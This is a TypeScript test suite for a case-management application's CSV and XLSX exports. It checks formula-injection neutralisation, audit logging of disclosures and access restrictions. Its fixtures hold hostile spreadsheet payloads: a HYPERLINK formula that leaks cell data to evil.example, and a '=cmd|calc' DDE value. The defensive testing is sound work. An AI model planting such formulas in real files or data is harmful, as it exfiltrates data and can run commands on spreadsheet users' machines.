// Every list exports (issue 16): each list kind, in both formats, through the
// one export service and its web, API and CLI doors. Formula injection is
// neutralised on every path (synthetic people whose names and notes begin
// = + - @), every export is a disclosure in the audit log, and need-to-know
// and withholding apply to the files as they do to the pages.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { testDatabase, type TestDatabase } from '../../support/db.js';
import { cookieHeader, signInAs, testApp, type TestApp } from '../../support/app.js';
import { addPerson, createScheme } from '../selection/support.js';
import { LIST_KIND_NAMES, type ListKindName } from '../../../src/exports/kinds.js';
import { mayExport } from '../../../src/exports/service.js';
import type { Actor } from '../../../src/access/actor.js';
import type { Role, AgencyKind } from '../../../src/db/schema.js';
import type { Services } from '../../../src/services.js';

let t: TestDatabase;
let ta: TestApp;
let services: Services;
let runId: number;
let watchListId: number;
let housingWatchListId: number;

const TODAY = '2009-06-15';
const MEETING = '2009-06-10';

// The synthetic people: names and notes a spreadsheet would run as formulas.
const EVIL = [
  { ref: 'EVIL1', family: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', given: 'Ann', prefix: '=HYPERLINK' },
  { ref: 'EVIL2', family: '+1', given: 'Bob', prefix: '+1' },
  { ref: 'EVIL3', family: '-1', given: 'Cal', prefix: '-1' },
  { ref: 'EVIL4', family: '@SUM(A1:A9)', given: 'Dee', prefix: '@SUM' },
];
const HIDDEN = { ref: 'HID1', family: 'Hiddenfield', given: 'Rex' };

const USERS: { username: string; role: Role; agency: AgencyKind }[] = [
  { username: 'pmanager', role: 'scheme_manager', agency: 'police' },
  { username: 'hmanager', role: 'scheme_manager', agency: 'housing' },
  { username: 'board', role: 'board_member', agency: 'police' },
  { username: 'worker', role: 'practitioner', agency: 'probation' },
];

function actorOf(username: string): Actor {
  const u = USERS.find((x) => x.username === username)!;
  return { userId: ta.users[username]!.userId, partnershipId: ta.f.partnershipId, role: u.role, agencyKind: u.agency, label: username };
}

/** Each list's parameters in this world. */
function paramsOf(kind: ListKindName): Record<string, string> {
  switch (kind) {
    case 'pool':
      return { scheme: 'PPO' };
    case 'selection-run':
    case 'disproportionality':
      return { run: String(runId) };
    case 'panel-minutes':
      return { scheme: 'PPO', date: MEETING };
    case 'scheme-members':
      return { scheme: 'PPO', asOf: TODAY };
    case 'caseload':
      return { username: 'pmanager', view: 'mine' };
    case 'watch-list':
      return { list: String(watchListId) };
    case 'alerts':
      return {};
    case 'ni30':
      return { scheme: 'PPO', year: '2008/09', ceiling: '0.16' };
    case 'ni38':
      return { year: '2008/09' };
    case 'reoffending':
    case 'concentration':
      return { from: '2008-04-01', to: '2008-06-30', asOf: TODAY };
    case 'drr':
      return { year: '2008/09' };
  }
}

/** A file's rows as values: CSV as text; XLSX read back with exceljs (numbers stay numbers). */
async function rowsOf(body: Buffer, format: 'csv' | 'xlsx'): Promise<unknown[][]> {
  if (format === 'csv') return parse(body.toString('utf8'), { relax_column_count: false }) as string[][];
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ArrayBuffer);
  const sheet = wb.worksheets[0]!;
  const out: unknown[][] = [];
  sheet.eachRow((r) => out.push((r.values as unknown[]).slice(1)));
  return out;
}

const RUNS = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?(e-?\d+)?$/i;

/** No text cell a spreadsheet would run: every one beginning = + - @ tab CR has its apostrophe (a CSV number such as -1.5 is a number). */
function expectNeutralised(rows: unknown[][], format: 'csv' | 'xlsx'): void {
  for (const r of rows)
    for (const c of r) {
      if (typeof c !== 'string') continue;
      if (format === 'csv' && NUMBER.test(c)) continue;
      expect(c, `cell ${JSON.stringify(c)}`).not.toMatch(RUNS);
    }
}

const texts = (rows: unknown[][]) => rows.flat().filter((c): c is string => typeof c === 'string');

beforeAll(async () => {
  t = await testDatabase();
  ta = await testApp(t, USERS);
  services = ta.app.services;
  const f = ta.f;
  const p = f.partnershipId;
  await t.db.updateTable('partnerships').set({ data_as_of: TODAY }).where('id', '=', p).execute();
  const scheme = await createScheme(t.db, f, 'PPO', 10);
  const people: number[] = [];
  for (const [i, e] of [...EVIL, HIDDEN].entries()) {
    const id = await addPerson(t.db, f, {
      ref: e.ref,
      offences: [
        ['2007-03-01', '2007-05-01', null],
        ['2008-01-10', '2008-02-10', null],
        ['2008-05-01', '2008-06-01', null],
      ],
      arrests: ['2009-01-05'],
      intelligence: ['2009-02-01'],
      custody: { reception: '2009-01-01', release: '2009-06-01' },
      supervision: { start: '2008-04-10', statutory: true },
      memberSince: { schemeId: scheme.id, start: '2007-01-01', tierId: i % 2 === 0 ? scheme.tiers.high : scheme.tiers.medium },
    });
    await t.db.updateTable('people').set({ family_name: e.family, given_names: e.given, restricted: e === HIDDEN }).where('id', '=', id).execute();
    people.push(id);
  }
  // Others in the pool, plain.
  for (let i = 0; i < 4; i++) await addPerson(t.db, f, { ref: `PLAIN${i}`, offences: [['2008-03-01', '2008-04-01', null]], arrests: ['2009-03-01'] });
  const hidden = people[people.length - 1]!;
  await t.db.insertInto('person_access').values({ person_id: hidden, user_id: ta.users.pmanager!.userId }).execute();
  // DRR orders starting in the year.
  await t.db.insertInto('supervision_periods').values(people.map((id) => ({ partnership_id: p, person_id: id, kind: 'drr' as const, statutory: true, start_date: '2008-07-01', end_date: '2009-01-01', end_kind: 'completed' as const }))).execute();

  const run = await services.selection.runSelection(f.operator, { schemeCode: 'PPO', asOf: TODAY });
  runId = run.runId!;
  // A panel whose decisions' reasons begin as formulas.
  const meeting = await t.db.insertInto('panel_meetings').values({ partnership_id: p, scheme_id: scheme.id, meeting_date: MEETING, run_id: runId, notes: null, created_by: null, created_by_label: 'test' }).returning('id').executeTakeFirstOrThrow();
  await t.db
    .insertInto('panel_decisions')
    .values(
      people.map((id, i) => ({
        partnership_id: p,
        meeting_id: meeting.id,
        person_id: id,
        item: 'review',
        items: ['review'],
        decision: 'accept' as const,
        action: 'none' as const,
        reason: `${EVIL[i % EVIL.length]!.prefix} reason`,
        score: 12.5,
        decided_by_label: '=cmd|calc',
      })),
    )
    .execute();
  // Cases managed by the police scheme manager, with alerts whose detail begins as a formula.
  for (const [i, id] of people.entries()) {
    const c = await services.cases.open(f.operator, { personId: id }, { schemeCode: 'PPO', leadAgency: 'POLICE', caseManager: 'pmanager', openedOn: '2009-01-01' });
    const caseId = (c as { id?: number; caseId?: number }).id ?? (c as { caseId?: number }).caseId ?? null;
    await t.db
      .insertInto('alerts')
      .values({ partnership_id: p, person_id: id, case_id: caseId, kind: 'arrested', raised_on: '2009-06-14', about_date: '2009-06-13', detail: `${EVIL[i % EVIL.length]!.prefix}(1) arrested`, recipients: ['lead', 'team'], dedupe_key: `test-${id}` })
      .execute();
  }
  watchListId = (await services.watchLists.create(f.operator, { name: '@released', query: 'released_recently' })).id;
  housingWatchListId = (await services.watchLists.create(actorOf('hmanager'), { name: 'released', query: 'released_recently' })).id;
}, 120_000);

afterAll(async () => {
  await ta?.app.close();
  await t?.close();
});

describe('every list kind, both formats: formula injection neutralised', () => {
  const PEOPLE_KINDS = LIST_KIND_NAMES.filter((k) => !['ni30', 'ni38', 'reoffending', 'concentration', 'drr', 'disproportionality'].includes(k));

  for (const kind of LIST_KIND_NAMES)
    for (const format of ['csv', 'xlsx'] as const)
      it(`${kind} as ${format}`, async () => {
        const r = await services.exports.list(ta.f.operator, { kind, format, params: paramsOf(kind), destination: 'test', justification: 'testing the export' });
        expect(r.fileName).toMatch(new RegExp(`^waymark-${kind}-(PPO-)?${TODAY}\\.${format}$`));
        const rows = await rowsOf(r.body, format);
        expect(rows.length).toBeGreaterThan(1);
        expect(rows.length - 1).toBe(r.rows);
        expectNeutralised(rows, format);
        if (PEOPLE_KINDS.includes(kind)) {
          // Each synthetic person's formula arrives as text with its apostrophe.
          for (const e of EVIL) expect(texts(rows).some((c) => c.startsWith(`'${e.prefix}`)), `${kind}: ${e.prefix}`).toBe(true);
        } else if (format === 'xlsx') {
          // A table of figures keeps its numbers as numbers.
          expect(rows.slice(1).flat().some((c) => typeof c === 'number')).toBe(true);
        }
      });
});

describe('the doors', () => {
  it('the web download, the API and the CLI door give the same neutralised file', async () => {
    const { jar } = await signInAs(ta.app, 'pmanager');
    const web = await ta.app.inject({ method: 'GET', url: '/exports/scheme-members?format=xlsx&scheme=PPO', headers: { cookie: cookieHeader(jar) } });
    expect(web.statusCode).toBe(200);
    expect(web.headers['content-disposition']).toBe(`attachment; filename="waymark-scheme-members-PPO-${TODAY}.xlsx"`);
    const rows = await rowsOf(web.rawPayload, 'xlsx');
    expectNeutralised(rows, 'xlsx');
    expect(texts(rows).some((c) => c.startsWith(`'=HYPERLINK`))).toBe(true);
    const api = await ta.app.inject({ method: 'GET', url: '/api/v1/exports/panel-minutes?format=csv&scheme=PPO&date=' + MEETING, headers: { cookie: cookieHeader(jar), accept: 'application/json' } });
    expect(api.statusCode).toBe(200);
    expect(api.headers['content-type']).toMatch(/^text\/csv/);
    expectNeutralised(await rowsOf(api.rawPayload, 'csv'), 'csv');
    // An import kind keeps its import-format export at the same address (administrators only).
    const refused = await ta.app.inject({ method: 'GET', url: '/api/v1/exports/people?format=csv', headers: { cookie: cookieHeader(jar), accept: 'application/json' } });
    expect(refused.statusCode).toBe(403);
    // The API describes the route, its parameters and its two file types.
    const doc = JSON.parse((await ta.app.inject({ method: 'GET', url: '/api/v1/openapi.json', headers: { cookie: cookieHeader(jar) } })).body);
    const op = doc.paths['/api/v1/exports/{kind}'].get;
    expect(Object.keys(op.responses['200'].content)).toEqual(['text/csv', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet']);
    expect(op.parameters.map((p: { name: string }) => p.name)).toEqual(expect.arrayContaining(['kind', 'format', 'scheme', 'run', 'date', 'year', 'ceiling']));
    const kinds = JSON.parse((await ta.app.inject({ method: 'GET', url: '/api/v1/exports', headers: { cookie: cookieHeader(jar), accept: 'application/json' } })).body);
    expect(kinds.lists.map((k: { kind: string }) => k.kind)).toEqual(LIST_KIND_NAMES);
    expect(kinds.importKinds).toContain('outcomes');
    const asOperator = await services.exports.list(ta.f.operator, { kind: 'selection-run', format: 'csv', params: { run: String(runId) } });
    expect(asOperator.rows).toBeGreaterThan(0);
  });

  it('the scheme, caseload, watch-list, panel and performance pages carry the download links', async () => {
    const { jar } = await signInAs(ta.app, 'pmanager');
    const get = (url: string) => ta.app.inject({ method: 'GET', url, headers: { cookie: cookieHeader(jar) } }).then((r) => r.body);
    expect(await get('/schemes/PPO')).toContain(`/exports/scheme-members?format=xlsx&amp;scheme=PPO&amp;asOf=${TODAY}`);
    expect(await get(`/selection/runs/${runId}`)).toContain(`/exports/selection-run?format=csv&amp;run=${runId}`);
    expect(await get(`/schemes/PPO/panel/minutes?date=${MEETING}`)).toContain(`/exports/panel-minutes?format=csv&amp;scheme=PPO&amp;date=${MEETING}`);
    expect(await get('/drr?year=2008/09')).toContain('/exports/drr?format=xlsx');
    expect(await get('/caseload')).toContain('/exports/caseload?format=csv&amp;view=mine');
    expect(await get('/alerts')).toContain('/exports/alerts?format=xlsx');
    expect(await get('/schemes/PPO/selection')).toContain('/exports/pool?format=csv&amp;scheme=PPO');
    const performance = await get('/performance/PPO/2008-09?ceiling=0.16');
    for (const kind of ['ni30', 'ni38', 'reoffending', 'concentration']) expect(performance, kind).toContain(`/exports/${kind}?format=csv`);
    // Each link answers with its file.
    for (const href of [...performance.matchAll(/href="(\/exports\/[^"]+)"/g)].map((m) => m[1]!.replaceAll('&amp;', '&'))) {
      const res = await ta.app.inject({ method: 'GET', url: href, headers: { cookie: cookieHeader(jar) } });
      expect(res.statusCode, href).toBe(200);
    }
    const { jar: board } = await signInAs(ta.app, 'board');
    const drr = await ta.app.inject({ method: 'GET', url: '/drr', headers: { cookie: cookieHeader(board) } });
    expect(drr.body).toContain('/exports/drr?format=csv');
  });
});

describe('every export is a disclosure in the audit log', () => {
  it('one entry per export, naming the people in the file (ids, never names) or, for figures, no one', async () => {
    for (const kind of LIST_KIND_NAMES) {
      const before = await t.db.selectFrom('audit_log').select((eb) => eb.fn.max('id').as('id')).executeTakeFirstOrThrow();
      const destination = `audit-${kind}.csv`;
      const r = await services.exports.list(ta.f.operator, { kind, format: 'csv', params: paramsOf(kind), destination });
      const entries = await t.db
        .selectFrom('audit_log')
        .select(['action', 'what', 'person_ids', 'details'])
        .where('id', '>', Number(before.id ?? 0))
        .where('action', '=', 'disclosure')
        .execute();
      const mine = entries.filter((e) => e.what.includes(destination));
      expect(mine, kind).toHaveLength(1);
      const details = JSON.parse(String(mine[0]!.details)) as { kind: string; rows: number; figuresOnly: boolean; fileName: string };
      expect(details.kind).toBe(kind);
      expect(details.rows).toBe(r.rows);
      expect(details.fileName).toBe(r.fileName);
      for (const name of ['HYPERLINK', 'SUM(', 'Hiddenfield', 'Ann', 'Bob']) expect(`${mine[0]!.what} ${String(mine[0]!.details)}`).not.toContain(name);
      if (details.figuresOnly) {
        expect(mine[0]!.person_ids ?? []).toHaveLength(0);
        expect(mine[0]!.what).toMatch(/^export of figures/);
      } else {
        expect((mine[0]!.person_ids ?? []).length).toBeGreaterThan(0);
      }
    }
  });
});

describe('need to know and withholding', () => {
  const ref = HIDDEN.ref;
  it('a restricted person is absent from every list a viewer not named on them exports', async () => {
    const housing = actorOf('hmanager');
    for (const [kind, params] of [
      ['pool', { scheme: 'PPO' }],
      ['selection-run', { run: String(runId) }],
      ['scheme-members', { scheme: 'PPO' }],
      ['panel-minutes', { scheme: 'PPO', date: MEETING }],
      ['watch-list', { list: String(housingWatchListId) }],
    ] as const) {
      const r = await services.exports.list(housing, { kind, format: 'csv', params, justification: 'asked for it' });
      const body = r.body.toString('utf8');
      expect(body, kind).not.toContain(ref);
      expect(body, kind).not.toMatch(/hiddenfield/i);
      expect(r.rows, kind).toBeGreaterThan(0);
    }
  });

  it('a restricted record leaves in a file only with a justification, even for a user named on it', async () => {
    const police = actorOf('pmanager');
    const plain = await services.exports.list(police, { kind: 'scheme-members', format: 'csv', params: { scheme: 'PPO' } });
    expect(plain.body.toString('utf8')).not.toContain(ref);
    expect(plain.withheldRestricted).toBe(1);
    const justified = await services.exports.list(police, { kind: 'scheme-members', format: 'csv', params: { scheme: 'PPO' }, justification: 'MAPPA meeting' });
    expect(justified.body.toString('utf8')).toContain(ref);
  });

  it('a withheld intelligence-based score stays withheld in the export', async () => {
    const r = await services.exports.list(actorOf('hmanager'), { kind: 'selection-run', format: 'xlsx', params: { run: String(runId) } });
    const rows = await rowsOf(r.body, 'xlsx');
    const head = rows[0] as string[];
    const score = head.indexOf('score');
    const rank = head.indexOf('rank');
    for (const row of rows.slice(1)) {
      expect(row[score]).toBe('withheld');
      expect(row[rank]).toBe('withheld');
    }
    // The police scheme manager sees the scores.
    const police = await rowsOf((await services.exports.list(actorOf('pmanager'), { kind: 'selection-run', format: 'xlsx', params: { run: String(runId) } })).body, 'xlsx');
    expect(police.slice(1).every((row) => typeof row[score] === 'number')).toBe(true);
    // The minutes withhold the decisions' scores from the housing manager as their page does.
    const minutes = (await services.exports.list(actorOf('hmanager'), { kind: 'panel-minutes', format: 'csv', params: { scheme: 'PPO', date: MEETING } })).body.toString('utf8');
    expect(minutes).not.toContain('12.5');
  });

  it('board members export the tables of figures, suppressed as their pages show them, and nothing that lists people', async () => {
    const board = actorOf('board');
    for (const kind of ['drr', 'ni30', 'ni38', 'reoffending', 'concentration'] as const) {
      const r = await services.exports.list(board, { kind, format: 'csv', params: paramsOf(kind) });
      expect(r.rows, kind).toBeGreaterThan(0);
      // No small count of people as it is: the same rule as the page (src/performance/disclosed.ts).
      const file = r.body.toString('utf8');
      if (kind === 'reoffending') expect(file).not.toMatch(/,(cohort|reoffenders),[1-4]\r?$/m);
      if (kind === 'ni38') expect(file).not.toMatch(/^[^,]*,[^,]*,[^,]*,[1-4],/m);
    }
    // The page offers the links the service allows.
    expect(mayExport(board, 'ni38')).toBe(true);
    expect(mayExport(board, 'disproportionality')).toBe(false);
    for (const kind of ['scheme-members', 'pool', 'panel-minutes', 'caseload'] as const)
      await expect(services.exports.list(board, { kind, format: 'csv', params: paramsOf(kind) }), kind).rejects.toThrow(/figures only/);
  });

  it('refuses an unknown kind or format, saying which', async () => {
    await expect(services.exports.list(ta.f.operator, { kind: 'nonsense', format: 'csv' })).rejects.toThrow(/not a list that exports/);
    await expect(services.exports.list(ta.f.operator, { kind: 'pool', format: 'pdf', params: { scheme: 'PPO' } })).rejects.toThrow(/csv or xlsx/);
    await expect(services.exports.list(ta.f.operator, { kind: 'panel-minutes', format: 'csv', params: { scheme: 'PPO' } })).rejects.toThrow(/date/);
  });
});
